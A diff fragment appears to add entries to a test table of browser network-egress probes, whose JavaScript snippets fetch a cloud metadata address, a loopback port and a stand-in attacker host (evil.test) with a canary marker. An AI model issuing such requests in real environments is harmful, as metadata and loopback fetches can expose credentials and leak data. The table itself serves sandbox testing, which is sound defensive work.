@@ -98,6 +98,9 @@ enum BrowserTable {
       await navigator.serviceWorker.register('/worker.js');
       (await navigator.serviceWorker.ready).active.postMessage('http://evil.test/CANARY')
       """),
+    request("fetch of the machine's metadata", "fetch('http://169.254.169.254/CANARY', {mode: 'no-cors'})"),
+    request("fetch of the loopback", "fetch('http://127.0.0.1:19555/CANARY', {mode: 'no-cors'})"),
+    request("prefetch", head("link", "rel: 'prefetch', href: 'http://evil.test/CANARY'")),
     outside("dns-prefetch", head("link", "rel: 'dns-prefetch', href: '//CANARY.evil.test'"), .network),
     outside("preconnect", head("link", "rel: 'preconnect', href: 'https://CANARY.evil.test'"), .policy),
     outside("WebRTC with a STUN server", peer("urls: 'stun:CANARY.evil.test:3478'"), .network),
